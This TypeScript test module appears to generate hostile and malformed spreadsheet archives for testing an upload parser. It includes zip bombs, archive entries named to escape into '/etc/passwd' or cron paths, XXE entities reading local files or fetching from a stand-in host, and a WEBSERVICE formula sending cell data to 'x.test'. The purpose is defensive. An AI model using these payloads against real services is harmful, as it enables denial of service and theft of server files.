// ZIP files and workbooks that are made to do harm, or are broken.
import { createRandom, type Random } from '../../../server/demo/random.ts'
import { COLUMNS, goodRow } from '../malformedRows.ts'
import { makeWorkbook, workbookParts, type TestWorkbook } from '../workbook.ts'
import { makeZip, type Part } from '../zipWriter.ts'
import { around, type Family } from './family.ts'
import { GOOD } from './text.ts'

const random = createRandom(3)
const rows = [[...COLUMNS], ...Array.from({ length: 50 }, (_, i) => Object.values(goodRow(random, i)))]
const fine: TestWorkbook = { sheets: [{ rows }] }
const header: TestWorkbook = { sheets: [{ rows: [[...COLUMNS]] }] }
const parts = (): Part[] => workbookParts(fine)
const isSheet = ({ name }: Part): boolean => name.endsWith('sheet1.xml')
const withClaims = (claims: NonNullable<Part['claims']>): Buffer => makeZip(parts().map((part) => (isSheet(part) ? { ...part, claims } : part)))
const sheet = (inside: string, after = '', before = ''): Buffer =>
  makeWorkbook({ sheets: [{ xml: `<worksheet>${before}<sheetData>${inside}</sheetData>${after}</worksheet>` }] })
const headerRow = `<row r="1">${COLUMNS.map((name) => `<c t="inlineStr"><is><t>${name}</t></is></c>`).join('')}</row>`

const once = <T>(make: () => T): (() => T) => {
  let made: { value: T } | undefined
  return () => (made ??= { value: make() }).value
}

const zeros = once(() => Buffer.alloc(150_000_000))
/** 128 MB that pack 60 times: under the ratio, so that only reading them shows what they are. */
const dense = (unit: (noise: string) => string) =>
  once(() => {
    const noise = createRandom(5)
    const blocks = Array.from({ length: 64 }, () => unit(noise.hex(900)))
    return Buffer.from(Array.from({ length: Math.ceil(128_000_000 / blocks.join('').length) }, () => blocks.join('')).join(''))
  })
const stringsXml = once(() => Buffer.concat([Buffer.from('<sst>'), dense((noise) => noise.replaceAll(/../g, '<si><t>$&</t></si>') + '<si><t></t></si>'.repeat(2000))(), Buffer.from('</sst>')]))
const oneString = once(() => Buffer.concat([Buffer.from('<sst><si><t>'), dense((noise) => `${noise}${'x'.repeat(40_000)}`)(), Buffer.from('</t></si></sst>')]))
const emptyRows = once(() => Array.from({ length: 1_000_000 }, (_, i) => `<row r="${i + 2}" spans="1:13" s="1" customFormat="1"/>`).join(''))
const manyRows = once(() => Array.from({ length: 3000 }, (_, i) => `<row r="${i + 2}"><c r="XFD${i + 2}"><v>${(i * 7919) % 10007}</v></c></row>`).join(''))

const doctype = (name: string, root: string): Family['make'] => (r: Random) =>
  makeWorkbook({ ...fine, replace: { [name]: `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY a "aaaaaaaaaa">${r.pick(['<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">', '<!ENTITY b SYSTEM "file:///etc/passwd">', '<!ENTITY % b SYSTEM "http://x.test/b"> %b;'])}]><${root}>&b;</${root}>` } })

export const ZIPS: Family[] = [
  { name: 'zip bomb beside the sheets', kinds: ['xlsx-bomb'], make: (r) => makeZip([...parts(), { name: `xl/media/image${Math.floor(r.next() * 99)}.png`, data: zeros() }]) },
  { name: 'zip bomb as the sheet', kinds: ['xlsx-bomb'], make: () => makeWorkbook({ sheets: [{ xml: zeros() }] }) },
  { name: 'a part that claims gigabytes', kinds: ['xlsx-bomb', 'broken-zip'], make: (r) => withClaims({ size: r.pick([0xfffffffe, 0x7fffffff, 250_000_000]) }) },
  { name: 'a part that claims less than it holds', kinds: ['broken-zip'], make: (r) => withClaims({ size: Math.floor(r.next() * 500) }) },
  { name: 'a part with a wrong sum', kinds: ['broken-zip'], make: (r) => withClaims({ crc: Math.floor(r.next() * 0xffffffff) }) },
  { name: 'a packing that we do not know', kinds: ['broken-zip'], make: (r) => withClaims({ method: r.pick([1, 6, 9, 12, 14, 93, 98]) }) },
  { name: 'parts over one another', kinds: ['xlsx-bomb'], make: () => makeZip(parts().map((part, i) => (i === 0 ? part : { ...part, claims: { offset: 0 } }))) },
  { name: 'a hundred parts that are one', kinds: ['xlsx-bomb'], make: () => makeZip([...parts(), ...Array.from({ length: 100 }, (_, i) => ({ name: `xl/${i}`, data: '', claims: { offset: 0, packed: 500, size: 50_000 } }))]) },
  { name: 'names that climb out', kinds: ['broken-zip'], make: (r) => makeZip([...parts(), { name: r.pick(['../../etc/cron.d/x', '/etc/passwd', 'C:/windows/x', 'xl/..\\..\\x', 'xl/../../x']), data: 'x' }]) },
  { name: 'two parts of one name', kinds: ['broken-zip'], make: () => makeZip([...parts(), ...parts().filter(isSheet)]) },
  { name: 'a password', kinds: ['encrypted-workbook'], make: (r) => makeZip(parts().map((part) => ({ ...part, flags: r.pick([1, 0x41]) }))) },
  { name: 'thousands of parts', kinds: ['xlsx-bomb'], make: (r) => makeZip([...parts(), ...Array.from({ length: 200 + Math.floor(r.next() * 5000) }, (_, i) => ({ name: `xl/a${i}`, data: '' }))]) },
  { name: 'a directory that claims more parts', kinds: ['broken-zip', 'xlsx-bomb'], make: (r) => makeZip(parts(), { entryCount: r.pick([8, 100, 60_000]) }) },
  { name: 'a ZIP of a CSV', kinds: ['not-a-workbook'], make: () => makeZip([{ name: 'rows.csv', data: GOOD }]) },
  { name: 'a ZIP of ZIPs of ZIPs', kinds: ['not-a-workbook'], make: (r) => Array.from({ length: 2 + Math.floor(r.next() * 6) }).reduce<Buffer>((inner) => makeZip(Array.from({ length: 10 }, (_, i) => ({ name: `${i}.zip`, data: inner.subarray(0, 100_000) }))), Buffer.from(GOOD)) },
  { name: 'another kind of ZIP', kinds: ['not-a-workbook'], make: (r) => makeZip([{ name: r.pick(['word/document.xml', 'ppt/presentation.xml', 'content.xml', 'META-INF/MANIFEST.MF', 'xl/workbook.bin']), data: '<a/>' }]) },
  { name: 'a workbook cut off', kinds: ['broken-zip'], make: (r) => around(r, makeWorkbook(fine), (at, bytes) => bytes.subarray(0, at)) },
  { name: 'a workbook damaged', kinds: ['broken-zip', 'broken-xml', 'xlsx-bomb', 'encrypted-workbook', 'not-a-workbook', 'broken-sheet', 'not-utf-8'], make: (r) => { const bytes = makeWorkbook(fine); for (let i = 0; i < 400; i++) bytes[4 + Math.floor(r.next() * (bytes.length - 30))]! ^= 1 + Math.floor(r.next() * 255); return bytes } },
  { name: 'a workbook with rubbish behind it', kinds: ['broken-zip'], make: (r) => Buffer.concat([makeWorkbook(fine), Buffer.alloc(1 + Math.floor(r.next() * 100_000), 65)]) },
  { name: 'rows with a workbook behind them', kinds: ['not-utf-8', 'nul-byte'], make: () => Buffer.concat([Buffer.from(GOOD), makeWorkbook(fine)]) },
  { name: 'a PDF that is a ZIP', kinds: ['wrong-file-type'], make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), makeWorkbook(fine)]) },
  { name: 'a picture that is a ZIP', kinds: ['wrong-file-type'], make: () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), makeWorkbook(fine)]) },
  { name: 'millions of shared strings', kinds: ['xlsx-bomb'], make: () => makeWorkbook({ ...fine, replace: { 'xl/sharedStrings.xml': stringsXml() } }) },
  { name: 'one shared string of a hundred megabytes', kinds: ['xlsx-bomb', 'broken-sheet'], make: () => makeWorkbook({ ...fine, replace: { 'xl/sharedStrings.xml': oneString() } }) },
  { name: 'a million empty rows', kinds: ['no-rows'], make: () => sheet(headerRow + emptyRows()) },
  { name: 'rules for 17 thousand million cells, and none', kinds: ['no-rows'], make: (r) => sheet(headerRow, `<dataValidations>${'<dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a,b"</formula1></dataValidation>'.repeat(1 + Math.floor(r.next() * 2000))}</dataValidations>`) },
  { name: 'a size of 17 thousand million cells, and none', kinds: ['no-rows'], make: () => sheet(headerRow, '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>', '<dimension ref="A1:XFD1048576"/>') },
  { name: 'rows of 16,384 columns', kinds: ['mostly-empty', 'wrong-number-of-columns'], make: (r) => sheet((r.next() < 0.5 ? headerRow : '<row r="1"><c r="XFD1"><v>1</v></c></row>') + manyRows()) },
  { name: 'a row of half a million attributes', kinds: ['no-rows', 'broken-xml', 'xlsx-bomb'], make: (r) => sheet(`${headerRow}<row r="2" ${Array.from({ length: 100_000 + Math.floor(r.next() * 400_000) }, (_, i) => `a${i}=""`).join(' ')}/>`) },
  { name: 'a sheet as deep as the sea', kinds: ['xml-too-deep', 'xlsx-bomb'], make: (r) => sheet(`${headerRow}${'<a>'.repeat(20 + Math.floor(r.next() * 500_000))}`) },
  { name: 'rows in disorder', kinds: ['broken-sheet'], make: (r) => sheet(`${headerRow}<row r="${2 + Math.floor(r.next() * 90)}"/><row r="1"><c><v>1</v></c></row>`) },
  { name: 'rows beyond the last', kinds: ['broken-sheet'], make: (r) => sheet(`${headerRow}<row r="${r.pick(['1048577', '99999999999999999999', '-1', '1e9', 'x', ''])}"><c><v>1</v></c></row>`) },
  { name: 'texts that are not there', kinds: ['broken-sheet'], make: (r) => sheet(`${headerRow}<row r="2"><c t="s"><v>${r.pick(['0', '-1', '1e308', 'NaN', '__proto__', ''])}</v></c></row>`) },
  { name: 'formulas without values', kinds: ['broken-sheet'], make: () => sheet(`${headerRow}<row r="2"><c r="A2"><f>WEBSERVICE("http://x.test/"&amp;A1)</f></c></row>`) },
  { name: 'entities in the workbook', kinds: ['xml-entities'], make: doctype('xl/workbook.xml', 'workbook') },
  { name: 'entities in the strings', kinds: ['xml-entities'], make: doctype('xl/sharedStrings.xml', 'sst') },
  { name: 'entities in the sheet', kinds: ['xml-entities'], make: doctype('xl/worksheets/sheet1.xml', 'worksheet') },
  { name: 'sheets that lie elsewhere', kinds: ['not-a-workbook'], make: (r) => makeWorkbook({ ...header, replace: { 'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="${r.pick(['../../../etc/passwd', 'http://x.test/sheet.xml', '/etc/passwd', 'file:///etc/passwd'])}"${r.next() < 0.5 ? ' TargetMode="External"' : ''}/></Relationships>` } }) },
]
